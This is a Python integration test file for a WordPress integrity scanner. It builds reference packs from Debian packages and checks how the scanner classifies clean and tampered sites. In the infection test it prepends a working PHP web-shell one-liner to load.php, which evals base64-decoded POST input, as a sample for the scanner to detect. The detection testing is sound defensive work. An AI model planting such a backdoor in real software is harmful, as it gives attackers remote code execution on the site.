"""A pack of the real WordPress, from a real deb, and what an audit with it makes of the site, clean and infected."""

import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest

from scanners.packs import pack_file
from scanners.packs.building import Order, build
from scanners.packs.components import ComponentKind
from scanners.packs.shelf import Shelf, Trust
from sentry.app.auditing.errand import audited
from sentry.app.auditing.order import AuditOrder
from sentry.app.pack_access import PackAccess
from sentry.domain.finding import WORST_FIRST, AuditReport, Finding, FindingClass
from tests.integration.servers.process import require

pytestmark = pytest.mark.integration

WORDPRESS = Path("/usr/share/wordpress")
COMPRESSIONS = ("xz", "gzip", "zstd")
WORST_ALLOWED = WORST_FIRST.index(FindingClass.RISKY_TOOL)


def deb(folder: Path, compression: str, site: Path) -> Path:
    """Returns a deb with a site in it, written by Debian's own program, with a script that nobody may run."""
    whole = folder / f"root-{compression}"
    (whole / "DEBIAN").mkdir(parents=True)
    (whole / "DEBIAN" / "control").write_text(
        "Package: site\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: a site\n"
    )
    (whole / "DEBIAN" / "postinst").write_text(f"#!/bin/sh\ntouch {folder}/executed\n")
    (whole / "DEBIAN" / "postinst").chmod(0o755)
    (whole / "usr" / "share").mkdir(parents=True)
    shutil.copytree(site, whole / "usr" / "share" / "wordpress", symlinks=True)
    path = folder / f"{compression}.deb"
    command = [
        require("dpkg-deb", "dpkg"),
        f"-Z{compression}",
        "-z1",
        "--root-owner-group",
        "-b",
        str(whole),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True)
    return path


@pytest.fixture(scope="module")
def packs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The packs of the real package."""
    if not WORDPRESS.is_dir():
        pytest.skip("no WordPress here; install wordpress")
    folder = tmp_path_factory.mktemp("packs")
    build(Order(deb(folder, "xz", WORDPRESS), folder / "packs", date(2026, 11, 22)))
    assert not (folder / "executed").exists()
    return folder / "packs"


@pytest.fixture
def site(tmp_path: Path) -> Path:
    """A site as people make it of the package: links are followed."""
    return Path(shutil.copytree(WORDPRESS, tmp_path / "site", ignore_dangling_symlinks=True))


async def report_on(site: Path, packs: Path) -> AuditReport:
    """What an audit says."""
    return await audited(
        AuditOrder(folder=str(site), packs=PackAccess((str(packs),), unsigned=True)), lambda _told: None
    )


def serious(report: AuditReport) -> dict[str, Finding]:
    """The findings that somebody must look at."""
    return {one.path: one for one in report.findings if WORST_FIRST.index(one.verdict) < WORST_ALLOWED}


@pytest.mark.parametrize("compression", COMPRESSIONS)
def test_deb_of_every_compression_gives_the_same_pack(compression: str, tmp_path: Path) -> None:
    """As Debian and Ubuntu publish them."""
    require("zstd", "zstd")
    (tmp_path / "site" / "wp-includes").mkdir(parents=True)
    (tmp_path / "site" / "wp-includes" / "version.php").write_text("<?php\n$wp_version = '6.9';\n")
    (tmp_path / "site" / "wp-includes" / "same.php").symlink_to("version.php")

    (path,) = build(Order(deb(tmp_path, compression, tmp_path / "site"), tmp_path / "packs", date(2026, 11, 22)))

    assert str(pack_file.read_header(path).component) == "wordpress 6.9"
    assert pack_file.read(path).files.keys() == {b"wp-includes/version.php", b"wp-includes/same.php"}


async def test_clean_site_of_a_real_package_is_known(site: Path, packs: Path) -> None:
    """All of it but what Debian takes from other packages; nothing is found that anybody must look at."""
    headers = Shelf([packs], Trust()).headers.values()
    published = sum(header.files for header in headers)
    assert any(header.kind is ComponentKind.CORE and header.name == "wordpress" for header in headers)

    report = await report_on(site, packs)

    assert serious(report) == {}
    assert report.manifest.known == published
    assert report.manifest.files - published < 60


async def test_infected_site_of_a_real_package_shows_each_change(site: Path, packs: Path) -> None:
    """Injected, added, changed by a hand and by a copying program: each is what it is."""
    load, mail, feed = (site / "wp-includes" / name for name in ("load.php", "pluggable.php", "feed.php"))
    load.write_bytes(b"<?php if(isset($_POST['x'])){@eval(base64_decode($_POST['x']));} ?>" + load.read_bytes())
    (site / "wp-includes" / "class-wp-cache.php").write_text("<?php // nothing\n")
    mail.write_bytes(mail.read_bytes().replace(b"wp_mail_from_name", b"our_mail_from_name"))
    feed.write_bytes(feed.read_bytes().replace(b"\n", b"\r\n"))

    report = await report_on(site, packs)

    found = serious(report)
    assert {path: finding.verdict for path, finding in found.items()} == {
        "wp-includes/load.php": FindingClass.CONFIRMED,
        "wp-includes/class-wp-cache.php": FindingClass.SUSPICIOUS,
        "wp-includes/pluggable.php": FindingClass.MODIFIED,
    }
    assert found["wp-includes/load.php"].may_be_acted_upon
    (advice,) = (finding for finding in report.findings if finding.path == "wp-includes/feed.php")
    assert advice.verdict is FindingClass.ADVICE
